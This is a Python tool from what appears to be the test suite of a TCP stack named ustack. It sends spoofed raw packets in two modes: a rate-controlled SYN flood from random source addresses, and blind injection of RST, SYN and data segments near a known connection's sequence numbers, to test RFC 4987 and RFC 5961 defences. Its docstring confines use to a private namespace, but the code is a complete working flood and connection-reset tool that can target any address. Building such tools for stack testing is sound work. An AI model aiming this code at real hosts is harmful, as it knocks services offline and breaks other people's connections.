#!/usr/bin/env python3
"""SYN flood and blind-injection attack tool for testing ustack (RFC 4987, RFC 5961).

Run as root INSIDE the test namespace (ip netns exec NS tools/synflood.py ...).
Only ever aim it at a ustack instance you started in a namespace you made.

  synflood.py flood  --dst 10.0.0.2 --port 80 --src-net 10.0.0.0/24 --rate 50000 --seconds 20
  synflood.py inject --dst 10.0.0.2 --port 7 --src 10.0.0.1 --sport 40000 \
                     --seq-near N --ack-near M --count 2000

`flood` sends SYNs with random source ports and random source addresses in
--src-net (a pool of pre-built packets, sent with a raw IP_HDRINCL socket),
paced to --rate per second, and prints the rate it actually reached.

`inject` plays a blind attacker against an established connection whose
4-tuple it knows (it spoofs the client): RSTs, SYNs and data segments whose
sequence numbers are near, but not equal to, the true ones (--seq-near is
the client's next sequence number as a sniffer would estimate it,
--ack-near ustack's). RFC 5961 says: in-window-but-not-exact RSTs and any
SYN get a challenge ACK, data with an unacceptable ACK is dropped; the
connection must survive.
"""
import argparse
import ipaddress
import os
import random
import socket
import struct
import sys
import time


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp_packet(src, dst, sport, dport, seq, ack, flags, window=64240, payload=b"", options=b""):
    doff = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      doff << 4, flags, window, 0, 0) + options + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    c = csum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.getrandbits(16), 0x4000, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


SYN, RST, PSH, ACK = 0x02, 0x04, 0x08, 0x10
# MSS 1460, SACK permitted, timestamps, NOP, window scale 7 (as Linux sends).
SYN_OPTIONS = bytes.fromhex("020405b4") + bytes.fromhex("0402080a") + b"\0\0\0\1\0\0\0\0" + bytes.fromhex("01030307")


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return s


def flood(a):
    net = ipaddress.ip_network(a.src_net, strict=False)
    hosts = [str(h) for h in net.hosts() if str(h) != a.dst]
    rnd = random.Random(a.seed)
    pool = []
    for _ in range(a.pool):
        src = rnd.choice(hosts)
        pool.append(tcp_packet(src, a.dst, rnd.randint(1024, 65535), a.port,
                               rnd.getrandbits(32), 0, SYN, options=SYN_OPTIONS if rnd.random() < 0.5 else b""))
    s = raw_socket()
    dst = (a.dst, 0)
    sent = errors = 0
    start = time.monotonic()
    end = start + a.seconds
    batch = 500
    i = 0
    n = len(pool)
    send = s.sendto
    while True:
        now = time.monotonic()
        if now >= end:
            break
        # Pace: never get ahead of rate * elapsed.
        if a.rate and sent > a.rate * (now - start):
            time.sleep(0.0005)
            continue
        for _ in range(batch):
            try:
                send(pool[i], dst)
                sent += 1
            except OSError:
                errors += 1
            i += 1
            if i == n:
                i = 0
    took = time.monotonic() - start
    print(f"synflood: sent {sent} SYNs in {took:.1f} s = {sent / took:.0f}/s "
          f"(target {a.rate}/s, {errors} send errors, {len(hosts)} source addresses)", flush=True)


def inject(a):
    s = raw_socket()
    rnd = random.Random(a.seed)
    dst = (a.dst, 0)
    counts = {"rst": 0, "syn": 0, "data": 0}
    for k in range(a.count):
        # Offsets that are in the receive window but never exact.
        off = rnd.choice([1, 2, 100, 1000, 5000, 20000, 60000]) * rnd.choice([1, -1])
        kind = k % 3
        if kind == 0:
            pkt = tcp_packet(a.src, a.dst, a.sport, a.port, a.seq_near + abs(off), 0, RST)
            counts["rst"] += 1
        elif kind == 1:
            pkt = tcp_packet(a.src, a.dst, a.sport, a.port, a.seq_near + off, 0, SYN, options=SYN_OPTIONS)
            counts["syn"] += 1
        else:
            # Data with a guessed (wrong) ACK: too far ahead or behind.
            bad_ack = a.ack_near + rnd.choice([1, -1]) * rnd.randint(1 << 20, 1 << 30)
            pkt = tcp_packet(a.src, a.dst, a.sport, a.port, a.seq_near + abs(off), bad_ack, ACK | PSH,
                             payload=b"INJECTED" * 8)
            counts["data"] += 1
        s.sendto(pkt, dst)
        if a.pace:
            time.sleep(a.pace)
    print(f"inject: sent {counts}", flush=True)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    f = sub.add_parser("flood")
    f.add_argument("--dst", required=True)
    f.add_argument("--port", type=int, default=80)
    f.add_argument("--src-net", required=True, help="random source addresses from this subnet")
    f.add_argument("--rate", type=int, default=50000, help="SYNs per second (0 = as fast as possible)")
    f.add_argument("--seconds", type=float, default=20)
    f.add_argument("--pool", type=int, default=65536, help="pre-built distinct SYNs")
    f.add_argument("--seed", type=int, default=1)
    i = sub.add_parser("inject")
    i.add_argument("--dst", required=True)
    i.add_argument("--port", type=int, required=True)
    i.add_argument("--src", required=True)
    i.add_argument("--sport", type=int, required=True)
    i.add_argument("--seq-near", type=int, required=True)
    i.add_argument("--ack-near", type=int, required=True)
    i.add_argument("--count", type=int, default=3000)
    i.add_argument("--pace", type=float, default=0.0, help="seconds between packets")
    i.add_argument("--seed", type=int, default=1)
    a = p.parse_args()
    if os.geteuid() != 0:
        sys.exit("synflood.py: needs root (raw sockets)")
    flood(a) if a.cmd == "flood" else inject(a)


if __name__ == "__main__":
    main()
